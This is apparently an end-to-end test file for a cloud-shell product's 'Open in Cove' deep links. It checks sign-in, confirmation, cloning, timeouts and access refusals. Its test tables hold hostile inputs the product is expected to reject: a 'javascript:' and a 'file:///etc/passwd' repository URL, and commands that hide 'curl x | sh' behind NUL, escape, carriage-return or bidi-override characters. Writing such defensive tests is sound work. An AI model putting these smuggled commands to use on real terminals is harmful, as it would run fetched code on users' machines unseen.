/**
 * "Open in Cove" links in a real Chromium against a real Cove, a real container and a local STS:
 * a link opened while signed out survives the password and MFA steps, the card says what will
 * happen and nothing happens before the user confirms (by keyboard), the repository is cloned as
 * the user and the command is typed at the prompt but not run until the user presses Enter; a
 * folder that exists is reused; Cancel does nothing; an unreachable host, a refused scheme, a
 * command with hidden characters or of 10 KB, an unknown region or identity, and a framed page
 * all stop before anything runs; the card fits 420 px; "Copy link to this shell" in the portal and
 * the Actions menu copies the exact URL.
 *
 * The clone: environments have no way out to a git host here (no internet, and the egress firewall
 * keeps them off the host), so the test seeds a bare repository in the user's home and a
 * `url.<file:///…/.seed/>.insteadOf https://git.cove.test/` rule in the user's ~/.gitconfig. Cove
 * checks and passes the https URL as a link gives it; git inside the environment, run by Cove as
 * the user, rewrites it. That proves the whole path except the network fetch itself.
 */
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { TOTP } from 'otpauth';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { SANDBOX_HOME } from '../../sandbox/index.js';
import { launchChromium, startCove, type CoveServer } from './cove-server.js';
import { LinkCard, openInCoveUrl } from './models/link-card.js';
import { LoginPage } from './models/login-page.js';
import { PortalPage } from './models/portal-page.js';
import { ShellPage } from './models/shell-page.js';
import { LOCAL_STS_CALLER, startLocalSts, type LocalSts } from '../helpers/local-sts.js';

const shots = '/tmp/cove-shots';
const region = 'us-east-1';
const accountId = '271828182845';
const permissionSet = 'Developer';
const password = 'open-in-cove-pw-1';
const totpSecret = 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP';
const repository = 'https://git.cove.test/acme/tools.git';
const command = 'cat ~/tools/README && echo link-ran-$((6*7))';

describe('Open in Cove links', () => {
  let sts: LocalSts;
  let cove: CoveServer;
  let browser: Browser;
  let context: BrowserContext;
  let userId = '';
  const username = `linker-${process.pid}`;
  const pages: Page[] = [];

  const newPage = async (viewport = { width: 1280, height: 800 }): Promise<Page> => {
    const page = await context.newPage();
    await page.setViewportSize(viewport);
    pages.push(page);
    return page;
  };
  const link = (parts: { git?: string; cmd?: string; account?: string; permissionSet?: string }) =>
    openInCoveUrl(cove.origin, region, { account: accountId, permissionSet, ...parts });
  const terminalCount = () => cove.app.terminals.list(userId, region).length;
  /** Runs a shell line in the user's environment as the user. */
  const inHome = async (script: string) => {
    const result = await cove.app.environments
      .driver(region)
      .exec({ ownerId: userId, region }, ['sh', '-c', script], {
        workingDir: SANDBOX_HOME,
        env: { HOME: SANDBOX_HOME },
      });
    return { exitCode: result.exitCode, out: `${result.stdout.toString()}${result.stderr.toString()}` };
  };

  beforeAll(async () => {
    mkdirSync(shots, { recursive: true });
    sts = await startLocalSts();
    vi.stubEnv('AWS_ACCESS_KEY_ID', LOCAL_STS_CALLER.accessKeyId);
    vi.stubEnv('AWS_SECRET_ACCESS_KEY', LOCAL_STS_CALLER.secretAccessKey);
    cove = await startCove({
      logLevel: 'warn',
      sts: { endpoint: sts.endpoint, region: 'us-east-1' },
      // The least allowed, so the hanging clone's case ends soon; the real clones take well under 1 s.
      links: { cloneTimeoutS: 5 },
    });
    const { directory } = cove.app;
    await directory.createAccount({ accountId, name: 'Links' });
    await directory.createPermissionSet({ name: permissionSet, sessionDurationS: 3600 });
    await directory.createPermissionSet({ name: 'Admin', sessionDurationS: 3600 });
    const { user } = await directory.createUser({ username, password });
    userId = user.id;
    await cove.store.users.update(userId, { totpSecret });
    await directory.createAssignment({
      principalType: 'user',
      principalId: userId,
      accountId,
      permissionSet,
    });
    // The repository a link will clone, reachable from inside the environment only (see above).
    await cove.app.environments.ensure({ id: userId, username }, region);
    const seeded = await inHome(
      [
        'set -e',
        'mkdir -p .seed/acme && cd .seed',
        'git init -q src && cd src',
        "printf 'seeded-by-the-test\\n' > README && git add README",
        'git -c user.email=t@cove.test -c user.name=t commit -q -m seed',
        'cd .. && git clone -q --bare src acme/tools.git && git clone -q --bare src acme/other.git',
        `git config --global url.file://${SANDBOX_HOME}/.seed/.insteadOf https://git.cove.test/`,
      ].join('\n'),
    );
    expect(seeded).toEqual({ exitCode: 0, out: '' });
    browser = await launchChromium();
    context = await browser.newContext();
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: cove.origin });
  });

  afterEach(async (test) => {
    if (test.task.result?.state !== 'fail') return;
    const name = test.task.name.replace(/[^a-z0-9]+/gi, '-').slice(0, 80);
    for (const [i, page] of pages.entries())
      if (!page.isClosed())
        await page.screenshot({ path: join(shots, `links-${name}-${i}.png`) }).catch(() => undefined);
  });

  afterAll(async () => {
    await context?.close();
    await browser?.close();
    const driver = cove?.app.environments.driver(region);
    await cove?.close();
    if (userId) await driver?.remove({ ownerId: userId, region }).catch(() => undefined);
    await sts?.close();
    vi.unstubAllEnvs();
  });

  it('signed out: sign-in and MFA keep the link; the card says it all; Enter confirms; the command waits for Enter', async () => {
    const page = await newPage();
    const url = link({ git: repository, cmd: command });
    await page.goto(url);
    await page.waitForURL(/\/login\?next=/);
    const login = new LoginPage(page, cove.origin);
    await login.submitPassword(username, password);
    await login.submitMfa(new TOTP({ secret: totpSecret }).generate());
    const card = new LinkCard(page);
    await card.waitFor();
    expect(page.url()).toBe(url);
    const text = await card.text();
    expect(text).toContain(region);
    expect(text).toContain(`${accountId} / ${permissionSet}`);
    expect(text).toContain('not run');
    expect(await card.field('link-repository')).toBe(repository);
    expect(await card.field('link-folder')).toBe('~/tools');
    expect(await card.field('link-command')).toBe(command);
    // Nothing happened yet: no terminal, no clone.
    expect(terminalCount()).toBe(0);
    expect((await inHome('test -e tools')).exitCode).not.toBe(0);
    // Keyboard only: the card's primary button has the focus.
    expect(await card.focused()).toBe('link-confirm');
    await page.keyboard.press('Enter');
    const shell = new ShellPage(page, cove.origin);
    await shell.waitForNotice(/Cloned https:\/\/git\.cove\.test\/acme\/tools\.git into ~\/tools\./, 90_000);
    await shell.waitForNotice(/typed at the prompt/);
    const typed = await shell.waitForText(/\$ cat ~\/tools\/README && echo link-ran-\$\(\(6\*7\)\)$/);
    expect(typed).not.toMatch(/link-ran-42|seeded-by-the-test/);
    // Typed, not run: a moment later it still has not run.
    await page.waitForTimeout(500);
    expect(await shell.text()).not.toMatch(/link-ran-42/);
    await shell.waitForTerminalFocus();
    expect(page.url()).toBe(openInCoveUrl(cove.origin, region, { account: accountId, permissionSet }));
    await page.keyboard.press('Enter');
    const ran = await shell.waitForText(/^link-ran-42$/m);
    expect(ran).toMatch(/^seeded-by-the-test$/m);
    expect((await inHome('stat -c %u tools/README')).out.trim()).toBe('1000');
  });

  it('a folder that exists is reused as it is, not pulled', async () => {
    await inHome('echo mine > tools/local-work');
    const page = await newPage();
    await page.goto(link({ git: repository, cmd: 'ls ~/tools' }));
    const card = new LinkCard(page);
    await card.waitFor();
    await card.confirm();
    const shell = new ShellPage(page, cove.origin);
    await shell.waitForNotice(/~\/tools already exists: used as it is \(not updated\)\./, 60_000);
    await shell.waitForText(/\$ ls ~\/tools$/);
    await page.keyboard.press('Enter');
    await shell.waitForText(/local-work/);
  });

  it('Cancel does nothing: no terminal, no clone, and says so', async () => {
    const before = terminalCount();
    const page = await newPage();
    await page.goto(link({ git: 'https://git.cove.test/acme/other.git', cmd: 'echo never' }));
    const card = new LinkCard(page);
    await card.waitFor();
    await page.keyboard.press('Tab');
    expect(await card.focused()).toBe('link-cancel');
    await page.keyboard.press('Enter');
    await page.getByTestId('link-cancelled').waitFor();
    expect(await page.getByTestId('link-cancelled').innerText()).toContain('Nothing was done');
    expect(await card.isGone()).toBe(true);
    await page.waitForTimeout(500);
    expect(terminalCount()).toBe(before);
    expect((await inHome('test -e other')).exitCode).not.toBe(0);
  });

  it('an unreachable host: the clone fails with git’s reason and nothing is typed', async () => {
    const page = await newPage();
    await page.goto(link({ git: 'https://127.0.0.1:9/acme/missing.git', cmd: 'echo should-not-be-typed' }));
    const card = new LinkCard(page);
    await card.waitFor();
    await card.confirm();
    const shell = new ShellPage(page, cove.origin);
    const notice = await shell.waitForNotice(/failed/, 60_000);
    expect(notice).toMatch(
      /^Cloning https:\/\/127\.0\.0\.1:9\/acme\/missing\.git failed: .*127\.0\.0\.1.*Nothing was typed\./,
    );
    await shell.waitForPrompt();
    expect(await shell.text()).not.toContain('should-not-be-typed');
    expect((await inHome('test -e missing')).exitCode).not.toBe(0);
  });

  it('a clone that hangs is stopped after links.cloneTimeoutS, says so, and types nothing', async () => {
    // A listener on the environment's own loopback that takes the connection and never answers.
    await inHome(
      'python3 -c \'import socket,time\ns=socket.socket()\ns.bind(("127.0.0.1",8443))\ns.listen()\nc=s.accept()\ntime.sleep(60)\' >/dev/null 2>&1 &',
    );
    const page = await newPage();
    await page.goto(link({ git: 'https://127.0.0.1:8443/acme/slow.git', cmd: 'echo should-not-be-typed' }));
    const card = new LinkCard(page);
    await card.waitFor();
    await card.confirm();
    const shell = new ShellPage(page, cove.origin);
    const notice = await shell.waitForNotice(/longer than/, 60_000);
    expect(notice).toBe(
      'Cloning https://127.0.0.1:8443/acme/slow.git took longer than 5 s and was stopped. Nothing was typed. If ~/slow was left half-made, delete it and open the link again.',
    );
    expect(await shell.text()).not.toContain('should-not-be-typed');
    // git was stopped, not left running in the environment.
    // `[s]low` matches git's command line, not grep's own.
    const left = await inHome(
      "cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' ' | grep -o '[s]low.git' | wc -l",
    );
    expect(left.out.trim()).toBe('0');
  });

  it('an unknown region, an unassigned or unknown identity: the 404 and 403 pages, no terminal', async () => {
    const before = terminalCount();
    const page = await newPage();
    const cases = [
      { url: openInCoveUrl(cove.origin, 'mars-north-1', { cmd: 'ls' }), status: 404, says: 'No such region' },
      { url: link({ permissionSet: 'Admin', cmd: 'ls' }), status: 403, says: 'No access to that account' },
      { url: link({ account: '999999999999', cmd: 'ls' }), status: 403, says: 'No access to that account' },
      {
        url: openInCoveUrl(cove.origin, region, { account: accountId, cmd: 'ls' }),
        status: 403,
        says: 'No access to that account',
      },
    ];
    for (const c of cases) {
      const response = await page.goto(c.url);
      expect(response?.status(), c.url).toBe(c.status);
      expect(await page.locator('h1').innerText()).toBe(c.says);
      expect(await page.getByTestId('link-card').count()).toBe(0);
    }
    expect(terminalCount()).toBe(before);
  });

  it.each([
    ['javascript:alert(1)', 'not javascript:'],
    ['file:///etc/passwd', 'not file:'],
    ['ssh://git@github.com/acme/tools.git', 'not ssh:'],
    ['https://token@github.com/acme/tools.git', 'user name or password'],
  ])('refuses git=%s on the card, with no way to confirm', async (git, says) => {
    const before = terminalCount();
    const page = await newPage();
    await page.goto(link({ git, cmd: 'ls' }));
    const card = new LinkCard(page);
    await card.waitFor();
    expect(await card.refusal()).toContain(says);
    expect(await card.hasConfirm()).toBe(false);
    expect(await card.focused()).toBe('link-cancel');
    expect(await card.field('link-repository')).toBe(git);
    expect(terminalCount()).toBe(before);
  });

  it.each([
    ['NUL', 'ls\u0000; curl x | sh', 'ls⟨U+0000⟩; curl x | sh'],
    ['ESC', 'ls\u001b[2K\u001b[1Gcurl x | sh', 'ls⟨U+001B⟩[2K⟨U+001B⟩[1Gcurl x | sh'],
    ['CR', 'ls\rcurl x | sh', 'ls⟨U+000D⟩curl x | sh'],
    ['a bidi override', 'echo \u202Ehs | x lruc', 'echo ⟨U+202E⟩hs | x lruc'],
  ])('refuses a command with %s and shows it with the character made visible', async (_name, cmd, shown) => {
    const before = terminalCount();
    const page = await newPage();
    await page.goto(link({ cmd }));
    const card = new LinkCard(page);
    await card.waitFor();
    expect(await card.refusal()).toContain('characters a link may not type');
    expect(await card.field('link-command')).toBe(shown);
    expect(await card.hasConfirm()).toBe(false);
    expect(terminalCount()).toBe(before);
  });

  it('refuses a 10 KB command, also after the sign-in redirect', async () => {
    const cmd = 'x'.repeat(10 * 1024);
    const page = await newPage();
    await page.goto(link({ cmd }));
    const card = new LinkCard(page);
    await card.waitFor();
    expect(await card.refusal()).toContain('The command is 10240 bytes long; a link may type at most 1024.');
    expect(await card.field('link-command')).toBe(`${'x'.repeat(300)}…`);
    expect(await card.hasConfirm()).toBe(false);
    // Signed out, the same link reaches the sign-in page with the whole link kept in next=.
    const signedOut = await browser.newContext();
    try {
      const other = await signedOut.newPage();
      const response = await other.goto(link({ cmd }));
      expect(response?.status()).toBe(200);
      expect(new URL(other.url()).searchParams.get('next')).toBe(link({ cmd }).slice(cove.origin.length));
      await other.locator('#login-form').waitFor();
    } finally {
      await signedOut.close();
    }
  });

  it('a link inside a framed page does not render', async () => {
    const before = terminalCount();
    const page = await newPage();
    const url = link({ git: repository, cmd: 'echo framed' });
    await page.setContent(
      `<iframe id="f" src="${url.replace(/&/g, '&amp;')}" width="800" height="500"></iframe>`,
    );
    const frame = await (await page.waitForSelector('#f')).contentFrame();
    await page.waitForTimeout(1000);
    expect(frame?.url()).not.toBe(url);
    const rendered = await frame
      ?.evaluate(() => document.querySelector('[data-testid=link-card], #login-form') !== null)
      .catch(() => false);
    expect(rendered ?? false).toBe(false);
    expect(terminalCount()).toBe(before);
  });

  it('at 420 px the card fits, its buttons are in view, and Confirm works', async () => {
    const page = await newPage({ width: 420, height: 800 });
    await page.goto(link({ git: repository, cmd: 'echo narrow-$((1+1))' }));
    const card = new LinkCard(page);
    await card.waitFor();
    const width = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(width).toBeLessThanOrEqual(420);
    for (const id of ['link-confirm', 'link-cancel']) {
      const box = await page.getByTestId(id).boundingBox();
      expect(box, id).not.toBeNull();
      expect((box?.x ?? -1) >= 0 && (box?.x ?? 0) + (box?.width ?? 0) <= 420, id).toBe(true);
    }
    await page.screenshot({ path: join(shots, 'links-card-420.png') });
    await card.confirm();
    const shell = new ShellPage(page, cove.origin);
    // At 420 px the prompt and the typed command may wrap onto a second row: read the rows joined.
    await expect
      .poll(async () => (await shell.text()).replace(/\n/g, ''), { timeout: 60_000 })
      .toMatch(/\$ echo narrow-\$\(\(1\+1\)\)$/);
  });

  it('"Copy link to this shell" in the portal and in the Actions menu copies the exact URL', async () => {
    const page = await newPage();
    const portal = new PortalPage(page, cove.origin);
    await portal.goto();
    await portal.chooseRegion(region);
    await portal.copyShellLink(accountId, permissionSet);
    const expected = `${cove.origin}/shell/${region}?account=${accountId}&permissionSet=${permissionSet}`;
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(expected);
    await page.evaluate(() => navigator.clipboard.writeText(''));
    const shell = new ShellPage(page, cove.origin);
    await shell.goto(region, { account: accountId, permissionSet });
    await shell.waitForPrompt(60_000);
    await shell.copyLinkFromActions();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(expected);
    expect(await shell.notice()).toBe(`Copied the link to this shell: ${expected}`);
  });
});
